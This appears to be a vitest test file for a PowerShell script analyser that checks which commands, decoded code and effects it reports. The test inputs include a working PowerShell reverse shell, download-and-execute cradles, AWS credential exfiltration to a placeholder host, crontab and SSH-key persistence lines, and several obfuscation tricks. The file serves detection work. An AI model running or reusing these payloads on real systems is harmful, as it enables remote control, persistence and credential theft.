import { describe, expect, test } from 'vitest';
import { known, render } from '../../value.ts';
import { powershell } from './powershell.ts';

/** What a script does, in words: commands, code it runs itself, effects. */
function told(code: string): string[] {
  const reading = powershell.read({
    text: code,
    args: [known('/a.ps1')],
    env: new Map(),
    readFile: () => undefined,
    budget: { steps: 300_000, decodedBytes: 100_000, commands: 500 },
  });
  const commands = reading.commands.map((command) => `$ ${command.argv.map(render).join(' ')}`);
  const nested = reading.nested
    .filter((each) => each.language === 'powershell')
    .map((each) => `> ${each.decoded.map((step) => `${step.decoder}:`).join('')}${each.text}`);
  const effects = reading.effects.flatMap((effect) => {
    switch (effect.kind) {
      case 'run':
        return effect.from === 'argument' || effect.from === 'decoded' ? [] : [`run ${effect.from}`];
      case 'connect':
        return [
          `connect ${render(effect.to.host)}:${render(effect.to.port ?? [])}${effect.shell === undefined ? '' : ' shell'}`,
        ];
      case 'fetch':
        return [`fetch ${render(effect.url)}${effect.to === undefined ? '' : ` > ${render(effect.to)}`}`];
      case 'write':
      case 'append':
        return [`${effect.kind} ${render(effect.path)}: ${render(effect.content ?? [])}`];
      case 'delete':
        return [`delete ${render(effect.path)}`];
      case 'exfiltrate':
        return [`send ${render(effect.what)} to ${render(effect.to)}`];
      default:
        return [effect.kind];
    }
  });
  return [...commands, ...nested, ...effects];
}

const utf16 = Buffer.from('Remove-Item /var/log/x; id', 'utf16le').toString('base64');

describe('what a script does', () => {
  test.each<[string, string, string[]]>([
    ['a program with a path', "/bin/bash -c 'id -u'", ['$ /bin/bash -c id -u']],
    ['a program in the folder', './x.sh a "b c"', ['$ ./x.sh a b c']],
    ['the call operator with a path', '& /tmp/a --go; id', ['$ /tmp/a --go', '$ id']],
    ['a name in pieces', "$y = 'ba' + 'sh'; & $y -c 'id'", ['$ bash -c id']],
    ['a name in pieces in brackets', "&('i'+'ex') 'Remove-Item /x'; id", ['$ id', '> Remove-Item /x']],
    ['a line of shell', 'curl -fsSL http://x.invalid/a | sh', ['$ sh -c curl -fsSL http://x.invalid/a | sh']],
    ['a value piped into programs', '"aWQ=" | base64 -d | bash', ["$ sh -c printf %s 'aWQ=' | base64 -d | bash"]],
    [
      'a script from the network that is run',
      "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/p')",
      ['fetch http://x.invalid/p', 'run fetched'],
    ],
    [
      'the same without a blank',
      "iex(New-Object Net.WebClient).DownloadString('http://x.invalid/p')",
      ['fetch http://x.invalid/p', 'run fetched'],
    ],
    [
      'the same through a pipe',
      'iwr http://x.invalid/p -UseBasicParsing | iex',
      ['fetch http://x.invalid/p', 'run fetched'],
    ],
    [
      'the same by its content',
      '(Invoke-WebRequest -Uri http://x.invalid/p).Content | Invoke-Expression',
      ['fetch http://x.invalid/p', 'run fetched'],
    ],
    [
      'a program from the network',
      'Invoke-WebRequest "http://x.invalid/a" -OutFile /tmp/a; chmod +x /tmp/a; Start-Process /tmp/a -ArgumentList "-x","y"',
      ['$ chmod +x /tmp/a', '$ /tmp/a -x y', 'fetch http://x.invalid/a > /tmp/a'],
    ],
    [
      'a reverse shell',
      "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$r = (iex $d 2>&1 | Out-String );$s.Write($r,0,$r.Length)};$c.Close()",
      ['connect 192.0.2.1:4444 shell', 'run unknown'],
    ],
    ['an encoded command', `pwsh -NoProfile -EncodedCommand ${utf16}`, ['> base64:Remove-Item /var/log/x; id']],
    [
      'base64 that is evaluated',
      `$x = [System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('${Buffer.from('Remove-Item /x').toString('base64')}')); Invoke-Expression $x`,
      ['> base64:Remove-Item /x'],
    ],
    ['numbers through a pipe', 'iex (-join (101,99,104,111,32,120 | % { [char]$_ }))', ['> echo x']],
    ['characters', "iex ([char]82+[char]109+'dir /x; Remove-Item /y')", ['> Rmdir /x; Remove-Item /y']],
    ['the format operator', 'iex ("{1}{0}" -f "Item /x","Remove-")', ['> Remove-Item /x']],
    ['join and reverse', "iex (-join ('x/ metI-evomeR'[13..0]))", ['> Remove-Item /x']],
    [
      'a replaced text',
      "iex ('RemXXove-Item /x'.Replace('XX','')); iex ('Re~move-Item /z' -replace '~','')",
      ['> Remove-Item /x', '> Remove-Item /z'],
    ],
    ['a block', "& ([scriptblock]::Create('Remove-Item /x'))", ['> Remove-Item /x']],
    ['back-ticks', "Re`move-Ite`m /x; i`Ex 'Remove-Item /y'", ['> Remove-Item /y', 'delete /x']],
    [
      'a line for the crontab of the host',
      "Add-Content -Path /mnt/etc/crontab -Value '* * * * * root id'",
      ['append /mnt/etc/crontab: * * * * * root id'],
    ],
    [
      'the same by a redirection',
      '"* * * * * root id" >> /mnt/etc/crontab',
      ['append /mnt/etc/crontab: * * * * * root id'],
    ],
    [
      'a here-text',
      "@'\nssh-ed25519 AAAA\n'@ | Out-File -Append /mnt/root/.ssh/authorized_keys",
      ['append /mnt/root/.ssh/authorized_keys: ssh-ed25519 AAAA'],
    ],
    [
      'a function with parameters',
      'function go($p) { & $p "-c" "id" }; go bash; go "sh"',
      ['$ bash -c id', '$ sh -c id'],
    ],
    ['both branches', 'if (Test-Path /x) { id } elseif ($y) { who } else { w }', ['$ id', '$ who', '$ w']],
    ['a loop', "foreach ($f in @('a','b')) { rm \"/tmp/$f\" }", ['$ rm /tmp/a', '$ rm /tmp/b']],
    ['each of a list', "'a','b' | ForEach-Object { touch $_ }", ['$ touch a', '$ touch b']],
    ['a variable of the environment', 'bash -c "echo $env:HOME"', ['$ bash -c echo ‹$HOME›']],
    ['a process of .NET', "[System.Diagnostics.Process]::Start('/bin/sh', '-c id')", ['$ /bin/sh -c id']],
    [
      'data that is sent',
      '$d = Get-Content /root/.aws/credentials; Invoke-RestMethod -Uri http://x.invalid/u -Method Post -Body $d',
      ['send ‹file /root/.aws/credentials› to http://x.invalid/u'],
    ],
    [
      'an ordinary script',
      "param([string]$Name = 'x')\n$ErrorActionPreference = 'Stop'\nWrite-Host \"Hello $Name\"\n$x = @{ a = 1; 'b' = @(1,2) }\nGet-ChildItem | Where-Object { $_.Length -gt 5 } | Sort-Object\n",
      [],
    ],
  ])('%s', (_name, code, expected) => {
    expect(told(code)).toEqual(expected);
  });
});
